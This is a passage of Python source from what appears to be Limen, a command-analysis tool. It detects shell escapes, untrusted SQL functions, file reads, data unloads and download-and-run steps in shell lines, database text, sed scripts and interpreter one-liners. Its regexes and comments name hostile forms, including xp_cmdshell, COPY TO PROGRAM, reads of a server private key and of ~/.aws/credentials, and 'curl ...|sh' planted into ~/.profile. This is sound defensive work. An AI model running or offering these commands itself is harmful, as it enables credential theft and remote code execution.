    valued = frozenset("SXpcth")  # a cluster ending in one of these takes the next word (`-dmS name`)
    i = 0
    while i < len(rest) and rest[i].startswith("-"):
        word = rest[i]
        takes = word == "-Logfile" or (not word.startswith("--") and len(word) > 1 and word[-1] in valued)
        i += 2 if takes else 1
    if rest[i:] and "-X" not in rest[:i]:
        _run(rest[i:], state, (*via, name), level, None)


_DB_ESCAPE = re.compile(
    r"^(?:-[ce])?\s*(?:\\!|\\system\b|system\b|\.shell\b|\.system\b|pager\b|\\P\b"
    r"|(?:\\o|\\g|\\gx|\.once|\.output|tee)\s*\|)\s*(.*)$",
    re.S | re.I,
)
_SQL_PROGRAM = re.compile(r"\b(?:to|from)\s+program\s+'((?:[^']|'')*)'", re.I)


def _database_escapes(name: str, args: list[str], state: _State, via: tuple[str, ...], level: int) -> None:
    """A database client's shell escapes: `psql -c '\\! cmd'`, `\\o |cmd`, `COPY t TO PROGRAM 'cmd'`,
    `mysql -e 'system cmd'`, `mysql --pager=cmd`, `sqlite3 db '.shell cmd'`, `.once |cmd`."""
    texts = [w for w in args if not w.startswith("-") or w[:2] in ("-c", "-e")]
    for i, word in enumerate(args):
        if word.startswith("--pager=") or word.startswith("--command=") or word.startswith("--execute="):
            texts.append(("pager " if word.startswith("--pager=") else "") + word.split("=", 1)[1])
        elif word == "--pager" and i + 1 < len(args):
            texts.append("pager " + args[i + 1])
    for text in texts:
        for line in sql_commands(text):
            _shell_string(line, state, via, level, False, f"{name} shell escape")


def sql_commands(text: str) -> list[str]:
    """The command lines a database client's text runs: `COPY t TO PROGRAM 'cmd'`, `\\! cmd`, `system cmd`,
    `.shell cmd` (for a SQL tool's statement too: `mcp__postgres__query(sql=...)`)."""
    found = [call.group(1).replace("''", "'") for call in _SQL_PROGRAM.finditer(text)]
    # the database's own HTTP client (pg_net's `net.http_post`, the `http` extension): a request it sends
    found += [f"curl -s -X POST --data-binary @- {quote(m.group(1))}" for m in _SQL_HTTP_SEND.finditer(text)]
    # a link to another database server (dblink, a foreign server, a FEDERATED table): rows go there
    for link in _SQL_REMOTE_SERVER.finditer(text):
        host = next(g for g in link.groups() if g)
        found.append(f"curl -s -X POST --data-binary @- {quote('https://' + host + '/')}")
    # rows unloaded to a bucket (BigQuery's EXPORT DATA, Snowflake's COPY INTO a location or a stage made on
    # one, Redshift's UNLOAD, DuckDB's COPY TO): a copy into that bucket
    for export in _SQL_UNLOAD.finditer(text):
        scheme, rest = export.group(1).lower(), export.group(2)
        if scheme in ("gs", "gcs"):
            found.append(f"gsutil cp - {quote('gs://' + rest)}")
        elif scheme in ("s3", "s3a"):
            found.append(f"aws s3 cp - {quote('s3://' + rest)}")
        else:  # Azure's blob addresses name the storage account's host
            host = rest.split("@")[-1] if "@" in rest.split("/")[0] else rest
            found.append(f"curl -s -T - {quote('https://' + host)}")
    # the server's own shell (SQL Server's xp_cmdshell, MySQL's sys_exec UDFs) and the files it reads for
    # the caller (`pg_read_file('/etc/ssl/private/server.key')`, `LOAD_FILE`, `LOAD DATA INFILE`)
    found += [m.group(1).replace("''", "'") for m in _SQL_SERVER_SHELL.finditer(text)]
    found += [f"cat {quote(m.group(1) or m.group(2))}" for m in _SQL_SERVER_FILE.finditer(text)]
    # rows the server writes into a file of its machine (`SELECT ... INTO OUTFILE '/var/www/u.csv'`, `COPY
    # (SELECT ...) TO '/srv/app/public/x'`): that file written, with whatever the query read
    found += [f"tee {quote(m.group(1) or m.group(2))}" for m in _SQL_SERVER_WRITE.finditer(text)]
    # a function in a language the server does not fence (plpython3u, plperlu, plsh): its body runs as the
    # server's own user, read as the program it is
    for body, language in _sql_untrusted_functions(text):
        if language.startswith("plpython"):
            indented = "\n".join("    " + line for line in body.strip("\n").splitlines())
            found.append(f"python3 -c {quote('def _f(*args, **kwargs):' + chr(10) + indented)}")
        else:
            found.append(f"{'perl -e' if language == 'plperlu' else 'sh -c'} {quote(body)}")
    for line in re.split(r"[\n;]", text):
        match = _DB_ESCAPE.match(line.strip())
        if match is not None and match.group(1):
            found.append(match.group(1))
    return found


def _sql_untrusted_functions(text: str) -> list[tuple[str, str]]:
    """(body, language) of each function a SQL text makes in an untrusted language, whichever side of the
    body its `LANGUAGE` is written (the dollar-quoted body nearest it); the extension that brings one is
    enough to be asked about (`CREATE EXTENSION plpython3u`: its functions can run anything), as an empty
    body."""
    found = []
    for language in list(_SQL_UNTRUSTED.finditer(text))[:2]:
        near = text[max(0, language.start() - 8000) : language.end() + 8000]
        bodies = list(islice(_SQL_DOLLAR_BODY.finditer(near), 8))
        if bodies:
            at = language.start() - max(0, language.start() - 8000)
            body = min(bodies, key=lambda m: min(abs(m.start() - at), abs(m.end() - at)))
            found.append((body.group(2), language.group(1).lower()))
    if not found and (extension := _SQL_UNTRUSTED_EXTENSION.search(text)):
        found.append(("", extension.group(1).lower()))
    return found


_SQL_SERVER_SHELL = re.compile(r"(?i)\b(?:xp_cmdshell|sys_exec|sys_eval)\s*\(?\s*N?'((?:[^']|''){1,2000})'")
_SQL_SERVER_FILE = re.compile(
    r"(?i)\b(?:pg_read_(?:binary_)?file|lo_import|load_file)\s*\(\s*'([^']{1,500})'"
    r"|\bload\s+data\s+(?:local\s+)?infile\s+'([^']{1,500})'"
)
_SQL_SERVER_WRITE = re.compile(
    r"(?i)\binto\s+(?:outfile|dumpfile)\s+'([^']{1,500})'|\bcopy\b[^;]{0,2000}?\bto\s+'(/[^']{1,500})'"
)
_SQL_DOLLAR_BODY = re.compile(r"(\$\w{0,20}\$)(.{0,8000}?)\1", re.S)
_SQL_UNTRUSTED = re.compile(r"(?i)\blanguage\s+'?(plpython[23]?u|plperlu|plsh|pltclu)\b")
_SQL_UNTRUSTED_EXTENSION = re.compile(
    r"(?i)\bcreate\s+extension\s+(?:if\s+not\s+exists\s+)?\"?(plpython[23]?u|plperlu|plsh|pltclu)"
)


_SQL_UNLOAD = re.compile(
    r"(?is)(?:\bexport\s+data\b[^;]*?\buri\s*=\s*|\bcopy\s+into\s+|\bunload\s*\(.*?\)\s*to\s+"
    r"|\bcopy\b[^;]*?\bto\s+|\bcreate\s+(?:or\s+replace\s+)?(?:temporary\s+)?stage\b[^;]*?\burl\s*=\s*)"
    r"'(s3a?|gcs|gs|azure|abfss?|wasbs?)://([^'\s]+)'"
)
_SQL_HTTP_SEND = re.compile(r"(?i)\b(?:net\.)?http_(?:post|put|patch)\s*\(\s*(?:url\s*:=\s*)?'([^']+)'")
_SQL_REMOTE_SERVER = re.compile(
    r"(?i)\bdblink\w*\s*\(\s*(?:'\w+'\s*,\s*)?'[^']*?\bhost\s*=\s*([\w.-]+)"
    r"|\bcreate\s+server\b[^;]*?\boptions\s*\([^)]*?\bhost\s+'([\w.-]+)'"
    r"|\bconnection\s*=\s*'\w+://(?:[^@'/]*@)?([\w.-]+)"
)
_SSH_COMMAND_KEYS = re.compile(
    r"^(proxycommand|localcommand|knownhostscommand|remotecommand)\s*[= ]\s*(.+)$", re.I | re.S
)


def _ssh_option_commands(name: str, args: list[str], state: _State, via: tuple[str, ...], level: int) -> None:
    """`ssh -o ProxyCommand='cmd' host`, `-oLocalCommand=cmd`: an ssh option whose value runs a command
    here (`%h`, `%p`... are the host and port it fills in)."""
    for i, word in enumerate(args):
        value = (
            args[i + 1] if word == "-o" and i + 1 < len(args) else word[2:] if word.startswith("-o") else ""
        )
        match = _SSH_COMMAND_KEYS.match(value.strip()) if value else None
        if match is None:
            continue
        command = re.sub(r"%[hpnrCdiLlrTu%]", "X", match.group(2)).strip().strip("'\"")
        if match.group(1).lower() == "remotecommand":
            continue  # runs on the other machine, as the words after the host do
        if command.lower() != "none":
            _shell_string(
                command, state, via, level, _is_dynamic(command, state), f"{name} -o {match.group(1)}"
            )


_SED_SCRIPT_OPTS = frozenset({"-e", "--expression", "-f", "--file", "-l", "--line-length", "-s"})


def _sed_commands(args: list[str], state: _State, via: tuple[str, ...], level: int) -> None:
    """GNU sed runs commands: `e CMD`, `s/.../.../e` (the edited line), and writes files with `w FILE`."""
    scripts: list[str] = []
    i = 0
    given = False
    while i < len(args):
        word = args[i]
        if word in ("-e", "--expression") and i + 1 < len(args):
            scripts.append(args[i + 1])
            given = True
            i += 2
            continue
        if word.startswith("--expression="):
            scripts.append(word.split("=", 1)[1])
            given = True
        elif word in ("-f", "--file"):
            given = True
            i += 2
            continue
        i += 1
    if not given:
        operands = _operands(args, _SED_SCRIPT_OPTS)
        scripts = operands[:1]
    for script in scripts:
        _sed_script(script, state, via, level)


# (each gap is blanks on one line, matched once: runs of blanks are never shared between two repetitions)
_SED_ADDRESS = (
    r"(?:(?:\d+|\$|/(?:[^/\\]|\\.)*/[IM]*)(?:[ \t]*,[ \t]*(?:\d+|\$|/(?:[^/\\]|\\.)*/[IM]*|[+~]\d+))?[ \t]*)?"
    r"(?:![ \t]*)?"
)
_SED_E = re.compile(rf"(?:^|[;\n{{}}])[ \t]*{_SED_ADDRESS}e\b[ \t]*([^\n]*)")
_SED_WRITE = re.compile(rf"(?:^|[;\n{{}}])[ \t]*{_SED_ADDRESS}[wW][ \t]+([^\n;]+)")
_SED_SUB = re.compile(r"s(.)((?:(?!\1)[^\\]|\\.)*)\1((?:(?!\1)[^\\]|\\.)*)\1([gpiImMe0-9]*)(?:w\s+(\S+))?")
# `1i TEXT`, `$a\ TEXT`, `/re/c TEXT`: text sed puts into the file it edits (GNU one-line and classic forms).
_SED_TEXT = re.compile(rf"(?:^|[;\n{{}}])[ \t]*{_SED_ADDRESS}[aic](?:\\\n|\\|[ \t]+)?([^\n]*)")


def _sed_script(script: str, state: _State, via: tuple[str, ...], level: int) -> None:
    for match in _SED_TEXT.finditer(script):  # what it writes into the files it edits, for the rules that
        if match.group(1).strip():  # judge written text (code planted in a program, a hook, an rc file)
            state.payloads.append(match.group(1).replace("\\n", "\n"))
    for match in _SED_SUB.finditer(script):
        if re.search(r"[;(|`$]", match.group(3)):  # a replacement that reads as code or a command
            state.payloads.append(match.group(3).replace("\\/", "/"))
    for match in _SED_E.finditer(script):
        command = match.group(1).strip()
        if command:
            _shell_string(command, state, via, level, False, "sed e")
        else:
            state.flag("sed executes the text it edits")
    for match in _SED_WRITE.finditer(script):
        target = match.group(1).strip()
        if target not in ("/dev/stdout", "/dev/stderr"):
            _add_path(target, state, write=True)
    for match in _SED_SUB.finditer(script):
        flags, target = match.group(4), match.group(5)
        if target:
            _add_path(target, state, write=True)
        if "e" not in flags:
            continue
        replacement = re.sub(r"\\[0-9]|&", "SEDVALUE", match.group(3)).replace("\\", "")
        if not replacement.strip() or replacement.strip().startswith("SEDVALUE"):
            state.flag("sed executes the text it edits")
        else:  # `s/.../mv -v \2 \1/e`: the command the edited line becomes
            _shell_string(replacement, state, via, level, False, "sed s///e")


def _fd_exec(args: list[str], state: _State, via: tuple[str, ...], level: int) -> None:
    """`fd PATTERN -x rm -rf {}`, `fd -X cmd`: a command per match (or for all), up to `;`."""
    for i, word in enumerate(args):
        if word in ("-x", "--exec", "-X", "--exec-batch"):
            inner = args[i + 1 :]
            if ";" in inner:
                inner = inner[: inner.index(";")]
            inner = [re.sub(r"\{(?:/|//|\.|/\.)?\}", "{}", w) for w in inner]
            if inner:
                _run(inner, state, (*via, f"fd {word}"), level, None)
            return


def _kubectl_exec(args: list[str], state: _State, via: tuple[str, ...], level: int) -> None:
    """`kubectl exec POD -- CMD...`, `kubectl run NAME --image=I -- CMD...`, `kubectl debug ... -- CMD`: the
    command runs in the pod (noted there, not opaque here)."""
    sub = next((w for w in args[:3] if w in ("exec", "run", "debug")), None)
    if sub is None or "--" not in args:
        return
    inner = args[args.index("--") + 1 :]
    if inner:
        _container_line(" ".join(quote(w) for w in inner), [], state, via, level, f"kubectl {sub}")


# --------------------------------------------------------------------------- interpreters


_STR = (
    r"""(?:\"\"\"(?P<t1>.*?)\"\"\"|'''(?P<t2>.*?)'''|"(?P<d>(?:[^"\\]|\\.)*)"|"""
    r"""'(?P<s>(?:[^'\\]|\\.)*)'|`(?P<b>[^`]*)`)"""
)
_SHELL_CALL = re.compile(
    r"(?:\bos\.(?:system|popen|exec\w*|spawn\w*)|\bsubprocess\.\w+|\bcommands\.getoutput|\bsystem|\bexec|\bexecSync"
    r"|\bexecFileSync|\bspawnSync|\bspawn|\bpopen|\bshell_exec|\bpassthru|\bproc_open|\bos\.execute|\bio\.popen"
    r"|\bIO\.popen|\bOpen3\.\w+|\bKernel\.\w+|\bpty\.spawn|%x|\bqx|\bRuntime\.getRuntime\(\)\.exec)"
    r"\s*[({]?\s*(?:\[\s*(?P<list>(?:"
    + _STR.replace("?P<t1>", "?:")
    .replace("?P<t2>", "?:")
    .replace("?P<d>", "?:")
    .replace("?P<s>", "?:")
    .replace("?P<b>", "?:")
    + r"\s*,?\s*)+)\]|"
    + _STR
    + ")",
    re.S,
)
_BACKTICK = re.compile(r"`([^`]+)`")
_DELETE_CALL = re.compile(
    r"\b(shutil\.rmtree|rmtree|rm_rf|rm_r|rmSync|rmdirSync|os\.remove|os\.unlink|os\.rmdir|unlinkSync|unlink"
    r"|File\.delete|FileUtils\.rm|remove_tree)\s*\(?\s*" + _STR.replace("?P<", "?P<x"),
    re.S,
)
_READ_CALL = re.compile(
    r"\b(open|file_get_contents|readFileSync|readFile|File\.read|IO\.read|fopen|file|read_text|Path)\s*\(\s*"
    + _STR.replace("?P<", "?P<r"),
    re.S,
)
_B64_EXEC = re.compile(r"b64decode\(\s*" + _STR.replace("?P<", "?P<e"), re.S)
_LITERAL = re.compile(_STR, re.S)
_SOCKET_API = re.compile(
    r"socket|fsockopen|TCPSocket|TCPServer|TCPClient|IO::Socket|net\.Dial|/inet/|"
    r"createConnection|net\.connect|Net::|connect\("
)
_IP_OR_HOST = re.compile(
    r"^(\d{1,3}(?:\.\d{1,3}){3}|[0-9a-fA-F]*:[0-9a-fA-F:]+:[0-9a-fA-F]*|"
    r"(?:[a-zA-Z0-9-]+\.)+[a-zA-Z]{2,})(?::(\d{1,5}))?$"
)
_INET = re.compile(r"/inet\d?/(?:tcp|udp)/\d+/([^/\s\"']+)/(\d+)")

_INTERP_FLAGS = {
    "python": ("-c",),
    "perl": ("-e", "-E"),
    "ruby": ("-e",),
    "php": ("-r",),
    "lua": ("-e",),
    "r": ("-e",),
    "julia": ("-e", "--eval", "-E", "--print"),
    "elixir": ("-e", "--eval"),
    "node": ("-e", "--eval", "-p", "--print"),
    "deno": ("eval",),
    "bun": ("-e", "--eval"),
}


def _lang(name: str) -> str:
    if name in ("Rscript", "R"):
        return "r"
    if name == "resty":  # OpenResty's command line: Lua with `ngx`
        return "lua"
    for lang in ("python", "pypy", "perl", "ruby", "php", "lua", "node", "deno", "bun", "awk"):
        if name.startswith(lang) or (lang == "awk" and name.endswith("awk")):
            return "python" if lang == "pypy" else lang
    entry = program(name)
    return entry.name if entry is not None and entry.name == "node" else name  # `nodejs`, `tsx`


# The package-manager sub-commands of the runtimes that are one too (bun, deno)
_RUNTIME_PACKAGE_COMMANDS = frozenset({"add", "install", "i", "update", "upgrade", "remove", "pm", "publish"})


def _script_operands(words: list[str], state: _State) -> None:
    """The files a script or a module is handed (`python ingest.py --source ~/.aws/credentials`): read by
    it, as an unknown program's operands are; a credential option's file (`--key-file K`) is its login."""
    from limen.facts.secrets import credential_option

    for i, word in enumerate(words[:64]):
        if _looks_like_path(word) and not (i and credential_option(words[i - 1])):
            _add_path(word, state, write=False)


def _interpreter(
    argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
) -> None:
    name = _basename(argv[0])
    lang = _lang(name)
    if lang in ("bun", "deno") and argv[1:2] and argv[1] in _RUNTIME_PACKAGE_COMMANDS:
        _h_pkg(argv, state, via, level, stdin)  # `bun add https://x/y.tgz`: a package manager's install
        return
    code = _interpreter_code(lang, argv[1:], state)
    if lang == "php" and "-S" in argv:  # PHP's built-in web server
        _serves("php -S", argv[1:], state)
    if lang == "ruby" and "-run" in argv and code == "httpd":  # `ruby -run -e httpd DIR`
        _serves("ruby -run -e httpd", argv[argv.index("httpd") + 1 :], state)
    if code is None and any(w.startswith("-m") for w in argv[1:]) and lang == "python":
        # `python -m json.tool` runs a module on its input, not the input as code; a module of the
        # working directory (`python -m tools.sync`: the directory comes first on the path) is a script
        if any(w in ("http.server", "SimpleHTTPServer", "-mhttp.server") for w in argv[1:]):
            _serves("python -m http.server", argv[1:], state)
        module = _module_file(argv[1:], state)
        if module:
            rest = argv[argv.index(module[1]) + 1 :] if module[1] in argv else []
            _script_operands(rest, state)
            _run_written(module[0], name, lang, state, via, level, rest)
            return
        tool = _module_program(argv[1:])
        if tool is not None:  # `python3 -m pip install URL` is `pip install URL`
            _run(tool, state, (*via, f"{name} -m"), level + 1, stdin)
        else:  # `python -m rag.ingest --source ~/.aws/credentials`: a module not on disk reads its operands
            given = next((i for i, w in enumerate(argv) if w.startswith("-m")), len(argv))
            _script_operands(argv[given + (argv[given] == "-m") + 1 :], state)
        return
    if code is None:
        script = _script_operand(lang, argv[1:])
        if stdin is not None and stdin.text is not None and lang != "awk" and script in ("", "-"):
            code = stdin.text  # (a script given, the input is the script's to read, not code)
        elif stdin is not None and stdin.sources and lang != "awk" and script in ("", "-"):
            if any(s in DOWNLOADERS for s in stdin.sources):
                state.note("download_exec")
            state.flag(f"{name} runs code from the output of {stdin.sources[-1]}")
            return
        else:
            if script.startswith(("<(", "/dev/fd/")):
                if _from_download(script):
                    state.note("download_exec")  # `python3 <(curl ...)`
                state.flag(f"{name} runs a script from a substitution")
            elif "://" in script and lang in ("node", "deno", "bun"):  # `deno run https://x/y.ts`
                _urls([script], state, name)
                state.note("download_exec")
            elif script:
                _add_path(script, state, write=False)
                path = canonical(script, state.cwd, state.home)
                _runs_fetched(script, path, state)
                rest = argv[argv.index(script) + 1 :] if script in argv else []
                _script_operands(rest, state)
                _run_written(path, name, lang, state, via, level, rest)
                if program(_basename(script)) is not None:  # `python manage.py flush` is `manage.py flush`
                    _run([_basename(script), *rest], state, (*via, name), level + 1, stdin)
                elif rest:  # `php admin/cli/cfg.php --name=forcelogin --set=0`: a CLI the table does not know
                    _admin_settings([_basename(script), *rest], None, state)
            return
    if _is_dynamic(code, state):
        if _from_download(code.strip().strip('"')):
            state.note("download_exec")
        state.flag(f"{name} runs a substituted program")
    state.payloads.append(code)
    tail = argv[argv.index(code) + 1 :] if code in argv else []  # the program's arguments (`sys.argv[1:]`)
    # operands after the program are the files it reads (`perl -ne print f.txt`), or edits in place
    before = argv[1 : argv.index(code)] if code in argv else argv[1:]
    edits = lang in ("perl", "ruby") and any(re.fullmatch(r"-[a-zA-Z]*i\S*", w) for w in before)
    if lang != "awk":
        for word in tail:
            if _looks_like_path(word) or (edits and any(c in word for c in "*?[")):
                _add_path(word, state, write=edits)
    if edits:  # `perl -pi -e 's/^/curl ...|sh\n/' ~/.profile`: text the substitution puts into the files
        for match in _SED_SUB.finditer(code):
            if re.search(r"[;(|`$]", match.group(3)):
                state.payloads.append(match.group(3).replace("\\/", "/").replace("\\n", "\n"))
    if tail[:1] == ["--"]:
        tail = tail[1:]
    flag = "-c" if lang == "python" else "-e"
    _scan_code(lang, code, state, (*via, f"{lang} {flag}"), level, args=tail)


_TASK_RUNNERS = frozenset({"npm", "pnpm", "yarn", "bun", "make", "gmake", "just"})
_MAKE_VALUED = frozenset(
    {"-C", "--directory", "-f", "--file", "--makefile", "-I", "--include-dir", "-o", "-W"}
)


def _project_tasks(name: str, args: list[str], state: _State, via: tuple[str, ...], level: int) -> None:
    """`npm test`, `make build`, `just deploy`: the lines the project's task file gives the task, analysed as
    the lines they are (`limen.normalize.tasks`); a task file that cannot be read makes the line opaque."""
    from limen.normalize import tasks

    cwd, makefile, words = state.cwd, None, []
    i = 0
    while i < len(args):
        word = args[i]
        if word == "--":
            break
        if name in ("make", "gmake") and word in _MAKE_VALUED and i + 1 < len(args):
            if word in ("-C", "--directory"):
                cwd = canonical(args[i + 1], cwd, state.home)
            elif word in ("-f", "--file", "--makefile"):
                makefile = args[i + 1]
            i += 2
            continue
        if word in ("--prefix", "-C", "--cwd", "--dir") and i + 1 < len(args):  # npm, pnpm, yarn, bun
            cwd = canonical(args[i + 1], cwd, state.home)
            i += 2
            continue
        if not word.startswith("-"):
            words.append(word)
        i += 1
    try:
        if name in ("make", "gmake"):
            lines = tasks.make_recipes(words, cwd, makefile)
        elif name == "just":
            lines = tasks.just_recipes(words, cwd)
        else:
            lines = tasks.package_scripts(name, words, cwd)
    except tasks.TaskUnknown as exc:
        state.flag(f"{name} runs a task Limen cannot read: {exc}")
        return
    label = f"{name} {words[0] if words else 'default'}"
    with _cwd(state, cwd):
        for line in lines:
            _analyse_text(line, state, via=(*via, label), level=level + 1)


def _applies_patch(name: str, args: list[str], state: _State, stdin: _Stream | None) -> None:
    """`patch -p1 < fix.diff`, `git apply <<EOF ...`: the files the patch writes are written, and the lines it
    adds are text the line puts into them (for the rules that judge written text)."""
    from limen.patches import targets

    files = [w for w in args if not w.startswith("-") and w not in ("apply", "am")]
    if name == "patch" and "-i" in args[:-1]:
        files = [args[args.index("-i") + 1]]
    elif name == "patch":
        files = files[1:2]  # `patch [FILE [PATCHFILE]]`: the second operand is the patch
    texts = [stdin.text] if stdin is not None and stdin.text else []
    texts += [t for t in (read_source(f, state.cwd, state.home) for f in files) if t]
    fetched = any(
        f in state.downloaded or canonical(f, state.cwd, state.home) in state.downloaded for f in files
    )
    if fetched or (stdin is not None and not stdin.text and any(s in DOWNLOADERS for s in stdin.sources)):
        # `curl -s URL | git apply`: the project's files changed by what a server sends, unread here
        state.flag(f"{name} applies a patch it downloads: what it changes is not in the call")
    for text in texts:
        for target in targets(text):
            _add_path(target, state, write=True)
        added = [
            line[1:] for line in text.splitlines() if line.startswith("+") and not line.startswith("+++")
        ]
        if added:
            state.payloads.append("\n".join(added))


def _serves(kind: str, args: list[str], state: _State) -> None:
    """A folder served to the network (`python3 -m http.server --directory /`, `php -S 0.0.0.0:80 -t ~`,
    `npx http-server ~`): noted `serves:FOLDER` for the rule that judges what it exposes."""
    options = FILE_SERVERS[kind]
    folder = ""
    for i, word in enumerate(args):
        flag, eq, value = word.partition("=")
        if flag in options and flag.startswith("-"):
            folder = value if eq else (args[i + 1] if i + 1 < len(args) else "")
            break
    if not folder and "" in options:
        operands = [w for w in args if not w.startswith("-") and not w.isdigit() and w != "file-server"]
        folder = operands[0] if operands else ""
    state.note(f"serves:{canonical(folder or '.', state.cwd, state.home)}")


def _module_file(args: list[str], state: _State) -> tuple[str, str] | None:
    """(the file, the module word) of `-m pkg.mod` when the module is a file under the working directory
    (`pkg/mod.py`, or `pkg/mod/__main__.py`); None for a module from elsewhere (`-m pytest`)."""
    for i, word in enumerate(args):
        if word == "-m" and i + 1 < len(args):
            name = args[i + 1]
        elif word.startswith("-m") and len(word) > 2:
            name = word[2:]
        else:
            continue
        if not re.fullmatch(r"[A-Za-z_][\w.]*", name):
            return None
        base = os.path.join(state.cwd, *name.split("."))
        for candidate in (base + ".py", os.path.join(base, "__main__.py")):
            if os.path.isfile(candidate):
                return candidate, args[i + 1] if word == "-m" else word
        return None
    return None


def _module_program(args: list[str]) -> list[str] | None:
    """`-m pip install X` as the command the module is (`pip install X`), when the program table knows the
    module by that name (pip, pytest, venv tools...); None for any other module."""
    for i, word in enumerate(args):
        if word == "-m" and i + 1 < len(args):
            module, rest = args[i + 1], args[i + 2 :]
        elif word.startswith("-m") and len(word) > 2:
            module, rest = word[2:], args[i + 1 :]
        else:
            continue
        return [module, *rest] if "." not in module and program(module) is not None else None
    return None


def _script_operand(lang: str, args: list[str]) -> str:
    operands = _operands(args, frozenset({"-m", "-W", "-X", "-I", "-M", "-r", "-F", "-v", "-f"}))
    if lang == "r" and operands[:1] == ["CMD"]:  # `R CMD BATCH FILE` runs it; `R CMD check .`, its tools
        return operands[2] if operands[1:2] == ["BATCH"] and len(operands) > 2 else ""
    if lang in ("deno", "bun") and operands[:1] == ["run"]:  # `deno run [options] URL-or-file`
        operands = [w for w in operands[1:] if not w.startswith("-")]
    return operands[0] if operands else ""


def _interpreter_code(lang: str, args: list[str], state: _State) -> str | None:
    if lang == "awk":
        skip = False
        for i, word in enumerate(args):
            if skip:
                skip = False
                continue
            if word in ("-F", "-v", "-f", "--field-separator", "--assign", "-i", "-l"):
                if word == "-f" and i + 1 < len(args):
                    _add_path(args[i + 1], state, write=False)
                    return None
                skip = True
                continue
            if word.startswith("-") and len(word) > 1:
                continue
            for rest in args[i + 1 :]:
                if _looks_like_path(rest) and "=" not in rest:
                    _add_path(rest, state, write=False)
            return word
        return None
    flags = _INTERP_FLAGS.get(lang, ("-c", "-e"))
    entry = program(lang)
    valued = entry.options if entry is not None else frozenset()
    attached = entry.attached_options if entry is not None else frozenset()
    letters = {flag[1] for flag in flags if len(flag) == 2 and flag.startswith("-")}
    skip = False
    for i, word in enumerate(args):
        if skip:
            skip = False
            continue
        if word in flags:
            if not word.startswith("-"):  # a sub-command (`deno eval --allow-net CODE`): its options first
                return next((w for w in args[i + 1 :] if not w.startswith("-")), None)
            return args[i + 1] if i + 1 < len(args) else None
        if word in valued:  # `ruby -r net/http -e CODE`: the library is no program
            skip = True
            continue
        if word.startswith("--") or not word.startswith("-") or len(word) < 2:
            continue
        # a cluster: `perl -lne CODE`, `perl -anE'CODE'`, `python -Bc CODE`, `ruby -rnet/http` (a value)
        for j in range(1, len(word)):
            letter = word[j]
            if letter in letters:
                return word[j + 1 :] or (args[i + 1] if i + 1 < len(args) else None)
            if "-" + letter in valued:
                skip = j + 1 == len(word)  # `-I DIR`: the next word is the value
                break
            if "-" + letter in attached:
                break
            if not letter.isalnum():
                break
    return None


def _literal(match: re.Match[str], prefix: str = "") -> str:
    for key in ("t1", "t2", "d", "s", "b"):
        value = match.group(prefix + key)
        if value is not None:
            return _ansi_c(value) if key in ("d", "s") and "\\" in value else value
    return ""


# Interpreter names (as `_lang` reads them) whose programs `limen.normalize.code` parses.
_CODE_LANGS = {"python": "python", "node": "node", "deno": "node", "bun": "node"}
_CODE_LANGS |= {"perl": "perl", "ruby": "ruby", "php": "php", "r": "r", "julia": "julia", "lua": "lua"}
_CODE_LANGS |= {"elixir": "elixir", "go": "go"}
_UNKNOWN_WORD = "$LIMEN_RUNTIME_VALUE"  # what a value only known when the program runs becomes in a command


def _scan_code(
    lang: str,
    code: str,
    state: _State,
    via: tuple[str, ...],
    level: int,
    *,
    script: str = "",
    args: Iterable[str] = (),
) -> None:
    """What an interpreter's program does, parsed (`limen.normalize.code`), recorded as the shell's own
    effects: deletes and file operations as the commands they equal (`rm -rf P`, `mv A B`), commands it runs
    analysed as nested lines, reads, writes, destinations, downloaded code run, and opacity with a reason."""
    if level > MAX_LEVEL:
        state.flag("nested programs deeper than the bound")
        return
    code_lang = _CODE_LANGS.get(lang)
    if code_lang is None:
        _scan_literal(lang, code, state, via, level)
        return
    from limen.normalize.code import EDIT_NOTE, UNKNOWN, VARIABLE_NOTE, analyse_code

    given = tuple(UNKNOWN if w in state.dynamic_words or _DYNAMIC_WORD.match(w) else w for w in args)
    fx = analyse_code(code_lang, code, cwd=state.cwd, home=state.home, script=script, args=given[:64])
    for why in fx.opaque:
        state.flag(why)
    if any(why.endswith("does not parse") for why in fx.opaque):
        _scan_literal(lang, code, state, via, level)  # what literal calls and peers the broken program names
    for note in fx.notes:
        state.note(note)
    if fx.download_exec:
        state.note("download_exec")
    state.payloads.extend(fx.sources)  # decoded and exec'd programs, for the rules that read program text
    if fx.socket:
        state.note(f"socket:{lang}")
        if not any(why.endswith("does not parse") for why in fx.opaque):
            state.note(
                FOLLOWED_SOCKET + lang
            )  # (what the program starts is known: its commands are recorded)
    for target in fx.reads:
        _code_path(target, state, write=False, unknown=UNKNOWN)
    for target in fx.writes:
        _code_path(target, state, write=True, unknown=UNKNOWN)
    for _target, text in fx.contents:  # what it wrote into files, for the rules that read written text
        if text:
            state.payloads.append(text)
    for target, source, edits in fx.edited:  # a file's text written back changed: the file it makes is judged
        if UNKNOWN not in target + source:
            import json

            note = json.dumps(
                [canonical(target, state.cwd, state.home), canonical(source, state.cwd, state.home), edits]
            )
            if len(note) <= MAX_EDIT_NOTE:
                state.note(EDIT_NOTE + note)
    for target, recursive, api in fx.deletes:
        word = _code_word(target, UNKNOWN)
        if word is None:
            if recursive:
                state.flag(f"{api} deletes a path computed at run time")
            else:
                state.note(f"{api} deletes a path computed at run time")
            continue
        _run(["rm", "-rf", word] if recursive else ["rm", word], state, (*via, api), level, None)
    for argv, api in fx.argvs:
        words = [w.replace(UNKNOWN, _UNKNOWN_WORD) for w in argv]
        if words and words[0].startswith(_UNKNOWN_WORD):
            state.flag(f"{lang} runs a program named at run time")
            state.note(BUILT_COMMAND + lang)
        _run(words, state, (*via, api) if api else via, level + 1, None)
    for line, _api in fx.shell:
        if line.strip() == UNKNOWN or line.startswith(UNKNOWN):
            state.flag(f"{lang} runs a command line built at run time")
            state.note(BUILT_COMMAND + lang)
        _analyse_text(line.replace(UNKNOWN, _UNKNOWN_WORD), state, via=via, level=level + 1, lenient=True)
    if fx.urls:
        from limen.normalize import net

        # A request with no body to a URL written out in full, from a program that opens no socket of its
        # own, fetches as `curl -s URL` does: marked so, the egress rules judge the two alike.
        # (nor reads a variable of the environment other than where files are: its value may ride along)
        carried = any(
            n.startswith(VARIABLE_NOTE) and n[len(VARIABLE_NOTE) :] not in _PLACES for n in fx.notes
        )
        quiet = not (fx.socket or fx.hosts or fx.environment or fx.opaque or carried)
        for url, _api in fx.urls:
            found = net.destinations_in_text(url.replace(UNKNOWN, "x"), via_command=lang)
            if quiet and UNKNOWN not in url and url not in fx.posted:
                found = [replace(d, flags=(*d.flags, FETCHED)) for d in found]
